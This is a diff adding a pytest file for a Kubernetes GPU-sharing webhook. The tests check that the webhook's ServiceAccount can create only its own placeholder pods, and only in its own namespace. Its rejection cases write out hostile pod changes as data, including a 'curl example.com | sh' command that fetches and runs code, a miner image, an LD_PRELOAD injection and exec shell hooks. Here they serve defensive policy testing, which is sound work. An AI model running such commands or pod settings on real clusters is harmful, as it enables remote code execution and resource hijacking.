@@ -1,0 +1,150 @@
+"""The component `borrow`: what an attacker with the webhook's ServiceAccount can create and delete with it."""
+
+from __future__ import annotations
+
+import copy
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from gpushare import contract
+from lab import lab_errors
+from tests.config import manifests
+from tests.config.conftest import WAIT_SECONDS, Cluster
+from tests.config.test_policy_pods import WEBHOOK
+from tests.config.test_rbac import may
+from webhook import webhook_settings
+from webhook.controllers.borrow import placeholders
+
+pytestmark = pytest.mark.apiserver
+
+COMPONENT = manifests.CONFIG / "components" / "borrow"
+FILES = [f"--filename={COMPONENT / name}.yaml" for name in ("namespace", "template", "rights", "policy")]
+PODS = placeholders.PODS_PATH
+
+
+@pytest.fixture(scope="module")
+def cluster(installed: Cluster) -> Iterator[Cluster]:
+    """With the component, once its policy is in force."""
+    installed.kubectl("apply", "--server-side", "--force-conflicts", *FILES)
+    installed.administrator.ensure_default_service_account(contract.BORROW_NAMESPACE)
+    deadline = time.monotonic() + WAIT_SECONDS
+    while "may have only the container" not in refusal(installed, changed(image="x")):
+        assert time.monotonic() < deadline, f"gpushare-borrow is not in force after {WAIT_SECONDS} s"
+        time.sleep(0.1)
+    yield installed
+    installed.kubectl("delete", FILES[-1], "--ignore-not-found")
+
+
+def manifest() -> dict[str, Any]:
+    template = next(
+        made["template"] for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PodTemplate"
+    )
+    return placeholders.manifest(template, "node-a")
+
+
+def changed(*, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
+    made = copy.deepcopy(manifest())
+    made["spec"] |= spec or {}
+    made["spec"]["containers"][0] |= container
+    return made
+
+
+def refusal(cluster: Cluster, made: dict[str, Any], path: str = PODS) -> str:
+    """Return why the webhook's account may not create the pod; empty if it may."""
+    try:
+        cluster.administrator.create(path, made, user=WEBHOOK, dry_run=True)
+    except lab_errors.LabError as error:
+        return str(error)
+    return ""
+
+
+def test_the_webhook_may_create_its_placeholders_and_no_other_pod(cluster: Cluster) -> None:
+    assert refusal(cluster, manifest()) == ""
+    only = "may have only the container of the PodTemplate gpushare-borrow"
+    for made in (
+        changed(image="example.com/miner"),
+        changed(command=["sh", "-c", "curl example.com | sh"]),
+        changed(args=["--more"]),
+        changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
+        changed(ports=[{"containerPort": 80}]),
+        changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
+        changed(livenessProbe={"exec": {"command": ["sh"]}}),
+        changed(spec={"initContainers": [{**manifest()["spec"]["containers"][0], "name": "first"}]}),
+        changed(
+            spec={
+                "containers": [*manifest()["spec"]["containers"], {**manifest()["spec"]["containers"][0], "name": "b"}]
+            }
+        ),
+    ):
+        assert only in refusal(cluster, made), made
+    no_rights = "may have no volumes, no token and no ServiceAccount of its own"
+    assert only in refusal(cluster, changed(spec={"automountServiceAccountToken": True}))  # it mounts the token
+    assert no_rights in refusal(cluster, changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
+    for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
+        assert "must have scheduler, priority and RuntimeClass" in refusal(cluster, changed(spec=spec)), spec
+    shared = manifest()
+    shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
+    assert "may have no share, owner or finalizer" in refusal(cluster, shared)
+    for key in ("hostNetwork", "hostPID"):
+        assert "violates PodSecurity" in refusal(cluster, changed(spec={key: True}))
+    assert "violates PodSecurity" in refusal(cluster, changed(securityContext={"allowPrivilegeEscalation": False}))
+
+
+def test_the_right_is_for_this_namespace_alone(cluster: Cluster) -> None:
+    for namespace in ("default", contract.SYSTEM_NAMESPACE, "kube-system"):
+        for verb in ("create", "delete"):
+            assert not may(cluster, WEBHOOK, verb, "pods", namespace=namespace)
+        path = f"/api/v1/namespaces/{namespace}/pods"
+        made = {**manifest(), "metadata": {**manifest()["metadata"], "namespace": namespace}}
+        assert 'cannot create resource "pods"' in refusal(cluster, made, path)
+    for verb in ("create", "delete"):
+        assert may(cluster, WEBHOOK, verb, "pods", namespace=contract.BORROW_NAMESPACE)
+    for verb, resource in (("update", "podtemplates"), ("delete", "podtemplates"), ("patch", "resourcequotas")):
+        here = contract.BORROW_NAMESPACE
+        assert not may(cluster, WEBHOOK, verb, resource, namespace=here)
+
+
+def test_the_policy_forbids_what_a_wider_role_would_allow(cluster: Cluster) -> None:
+    here = f"--namespace={cluster.namespace}"
+    cluster.kubectl("create", "role", "too-much", "--verb=create", "--resource=pods", here)
+    cluster.kubectl("create", "rolebinding", "too-much", "--role=too-much", f"--user={WEBHOOK}", here)
+    path = f"/api/v1/namespaces/{cluster.namespace}/pods"
+    made = {**manifest(), "metadata": {**manifest()["metadata"], "namespace": cluster.namespace}}
+    try:
+        assert "may create pods only in the namespace gpushare-borrow" in refusal(cluster, made, path)
+    finally:
+        cluster.kubectl("delete", "rolebinding/too-much", "role/too-much", here)
+
+
+def test_quota_priority_and_settings_agree() -> None:
+    (quota,) = (made for made in manifests.documents(COMPONENT / "namespace.yaml") if made["kind"] == "ResourceQuota")
+    (kustomization,) = manifests.documents(COMPONENT / "kustomization.yaml")
+    most = quota["spec"]["hard"]["pods"]
+    assert quota["spec"]["hard"] == {"pods": most, "requests.nvidia.com/gpu": most}
+    assert f"--borrow-max-gpus={most}" in kustomization["patches"][0]["patch"]
+    assert webhook_settings.WebhookSettings().borrow_max_gpus == 0  # off by default
+    (priority,) = (made for made in manifests.documents(COMPONENT / "template.yaml") if made["kind"] == "PriorityClass")
+    assert priority["value"] < 0
+    assert priority["preemptionPolicy"] == "Never"
+
+
+def test_both_components_may_be_installed(cluster: Cluster) -> None:
+    cluster.kubectl(
+        "apply",
+        "--server-side",
+        "--force-conflicts",
+        *(each.replace("components/borrow", "components/demand") for each in FILES),
+    )
+    try:
+        assert refusal(cluster, manifest()) == ""
+    finally:
+        cluster.kubectl("delete", FILES[-1].replace("components/borrow", "components/demand"), "--ignore-not-found")
+
+
+def test_a_placeholder_has_one_gpu(cluster: Cluster) -> None:
+    for gpus in ("2", "0"):
+        resources = {"limits": {contract.BORROWED_RESOURCE: gpus}}
+        assert "must have one nvidia.com/gpu" in refusal(cluster, changed(resources=resources))
